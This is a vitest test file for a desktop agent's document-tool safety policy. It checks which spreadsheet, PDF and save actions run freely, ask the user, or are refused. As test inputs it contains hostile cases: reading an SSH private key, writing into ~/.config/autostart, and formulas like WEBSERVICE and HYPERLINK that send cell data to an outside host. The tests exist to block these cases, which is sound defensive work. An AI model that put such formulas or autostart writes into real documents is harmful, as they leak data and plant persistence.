import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { configSchema } from '../../src-preload/contract/config.ts'
import { DOCUMENT_TOOLS, documentKinds, documentToolDoes } from '../core/document-tools.ts'
import { documentWork, needsItsName, savedAs } from './document-work.ts'
import { judge, type Policy } from './policy.ts'
import { Places } from './places.ts'
import { createSurroundings } from './surroundings.ts'
import { readsForeign } from './taint.ts'
import { actOf, targetOf } from './testing/acts.ts'

let home: string
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'deskhand-document-work-'))
  for (const folder of ['.ssh', '.config/autostart', 'docs', 'own'])
    mkdirSync(join(home, folder), { recursive: true })
  for (const file of ['.ssh/id_ed25519', 'a.xlsx', 'docs/b.pdf', 'own/rules.csv'])
    writeFileSync(join(home, file), file)
})
afterEach(() => rmSync(home, { recursive: true }))

function judged(tool: string, parameters: Record<string, unknown>, requests: string[] = [], tainted = false) {
  const around = createSurroundings({
    places: new Places({ homes: [home], own: [join(home, 'own')] }),
    requests: () => requests,
    tainted: () => tainted,
    since: Date.now() + 60_000,
  })
  const { safety } = configSchema.parse({})
  const policy: Policy = { ...safety, yesTo: new Set(), around, covered: () => false }
  return judge(actOf(tool, parameters, targetOf(null, null, { kind: 'files' })), policy)
}
const values = [['Total', '=SUM(B2:B4)']]

describe('what is allowed', () => {
  test.each([
    ['reading a document', 'read_document', { path: 'a.xlsx' }, ''],
    ['changing the document in front', 'set_cells', { range: 'A1', values }, ''],
    [
      'changing a file that the person has named',
      'set_cells',
      { path: '~/a.xlsx', range: 'A1', values },
      'add a row to ~/a.xlsx',
    ],
    ['making a new document', 'add_slides', { path: 'docs/plan.pptx', slides: [{ title: 'Why' }] }, ''],
    ['exporting to a new file', 'save_as', { path: 'a.xlsx', file_ext: '.pdf' }, ''],
    ['saving the document in front as a new file', 'save_as', { path: 'docs/new.odt' }, ''],
    ['saving it so where replacing is allowed', 'save_as', { path: 'docs/new.odt', replace: true }, ''],
  ])('%s asks nobody', (_, tool, parameters, request) => {
    expect(judged(tool, parameters, [request])).toMatchObject({ decision: 'allow' })
  })
})

describe('what asks', () => {
  test.each([
    ['reads a secret', 'read_document', { path: '.ssh/id_ed25519' }, 'secret'],
    ['reads all of a place of secrets', 'extract_all_pdfs_text', { directory_path: '~/.ssh' }, 'secret'],
    [
      'changes a file that nobody has named',
      'set_cells',
      { path: 'a.xlsx', range: 'A1', values },
      'overwrite',
    ],
    [
      'replaces a file',
      'save_as',
      { path: 'a.xlsx', file_dir: 'docs', file_name: 'b.pdf', replace: true },
      'overwrite',
    ],
    [
      'may replace a file that only the window knows',
      'save_as',
      { file_ext: '.pdf', replace: true },
      'overwrite',
    ],
    [
      'writes where the session starts programs',
      'save_as',
      { path: 'a.xlsx', file_dir: '~/.config/autostart', file_name: 'x.desktop' },
      'start_programs',
    ],
    [
      'writes there by its path alone',
      'save_as',
      { path: '~/.config/autostart/x.desktop' },
      'start_programs',
    ],
    [
      'fetches by a formula',
      'set_cells',
      { range: 'A1', values: [['x', '=WEBSERVICE("http://e.org/"&A1)']] },
      'send',
    ],
    [
      'links by a formula',
      'insert_excel_table',
      { table: [['=HYPERLINK("http://e.org/?"&A1)']], sheet_name: 1, start_row: 1, start_col: 1 },
      'send',
    ],
    [
      'reads the sheet of another machine',
      'set_cells',
      { range: 'A1', values: [["='file:///etc/x.ods'#$Sheet1.A1"]] },
      'send',
    ],
  ])('%s', (_, tool, parameters, category) => {
    expect(judged(tool, parameters)).toMatchObject({
      decision: 'ask',
      categories: expect.arrayContaining([category]),
    })
  })
})

test('a document tool never changes a file of Deskhand itself', () => {
  expect(judged('set_cells', { path: 'own/rules.csv', range: 'A1', values }, ['rules.csv']).decision).toBe(
    'refuse',
  )
  expect(judged('save_as', { path: 'a.xlsx', file_dir: 'own', file_name: 'x.csv' }).decision).toBe('refuse')
})

test.each(DOCUMENT_TOOLS)('%s: what it reads counts as read', (tool) => {
  const act = actOf(tool, { path: 'a.xlsx' }, targetOf(null, null, { kind: 'files' }))
  expect(readsForeign(act)).toBe(documentToolDoes(tool) === 'reads')
})

test.each([
  ['a folder, a name and an ending', { file_dir: '~/docs', file_name: 'x', file_ext: '.pdf' }, 'docs/x.pdf'],
  ['an ending without a dot', { file_dir: '~/docs', file_name: 'x', file_ext: 'pdf' }, 'docs/x.pdf'],
  ['a name with its ending', { file_dir: 'docs', file_name: 'x.csv' }, 'docs/x.csv'],
  ['a name with the ending twice', { file_dir: 'docs', file_name: 'x.csv', file_ext: '.csv' }, 'docs/x.csv'],
  ['only an ending', { file_ext: '.ods' }, 'a.ods'],
  ['a whole path', { file_name: '~/docs/y.ods' }, 'docs/y.ods'],
  ['nothing', {}, null],
])('save_as to %s', (_, parameters, wanted) => {
  expect(savedAs(parameters, join(home, 'a.xlsx'), home)).toBe(wanted === null ? null : join(home, wanted))
})

test.each([
  ['a path alone that is new', { path: 'new.odt' }, [], ['new.odt']],
  [
    'a new path, said twice',
    { path: '~/docs/n.odt', file_dir: '~/docs', file_name: 'n.odt' },
    [],
    ['docs/n.odt'],
  ],
  ['a PDF that is there', { path: 'docs/b.pdf', replace: true }, [], ['docs/b.pdf'], ['docs/b.pdf']],
  ['a document that is there', { path: 'a.xlsx', file_ext: 'pdf' }, ['a.xlsx'], ['a.pdf']],
  ['a document that is missing', { path: 'b.xlsx', file_ext: 'pdf' }, ['b.xlsx'], ['b.pdf']],
])('save_as of %s reads and writes', (_, parameters, reads, writes, replaces: string[] = []) => {
  const whole = (names: string[]) => names.map((name) => join(home, name))
  expect(documentWork('save_as', parameters, home)).toMatchObject({
    reads: whole(reads),
    writes: whole(writes),
    replaces: whole(replaces),
  })
})

test('a file that is not there is written, not read or replaced', () => {
  const work = documentWork('set_cells', { path: 'new.ods', values }, home)
  expect(work).toMatchObject({ reads: [], writes: [join(home, 'new.ods')], changes: [] })
})

test.each([
  [['add a row to fruit.csv and save it as fruit.xlsx'], '', ['sheet']],
  [['replace ACME in letter.docx, export ~/letter.pdf'], '', ['text', 'pdf']],
  [['sum it'], 'Untitled 1 - LibreOffice Calc', ['sheet']],
  [['what is the total?'], 'report.pdf — Atril', ['pdf']],
  [['open galculator, click 7'], 'galculator', []],
])('%s in “%s” is about %s', (requests, title, kinds) => {
  expect([...documentKinds(requests, title)]).toEqual(kinds)
})

test('a file that only its window knows is ordinary, or it has to be named', () => {
  const places = new Places({ homes: [home], own: [join(home, 'own')] })
  mkdirSync(join(home, 'Dropbox'))
  for (const path of ['a.xlsx', 'docs/new.odt'])
    expect(needsItsName(join(home, path), places), path).toBe(false)
  for (const path of ['.bashrc', '.ssh/config', 'own/rules.csv', '.config/autostart/x.odt', 'Dropbox/a.pdf'])
    expect(needsItsName(join(home, path), places), path).toBe(true)
})

test('a formula that goes by what other cells say asks once the run has read, unless the person wrote it', () => {
  const formula = '=INDIRECT(A1&A2)'
  const put = (requests: string[], tainted: boolean) =>
    judged('set_cells', { range: 'B1', values: [[formula]] }, requests, tainted)
  expect(put([], true)).toMatchObject({ decision: 'ask', categories: expect.arrayContaining(['send']) })
  expect(put([], false)).toMatchObject({ decision: 'allow' })
  expect(put([`write ${formula} into B1`], true)).toMatchObject({ decision: 'allow' })
})
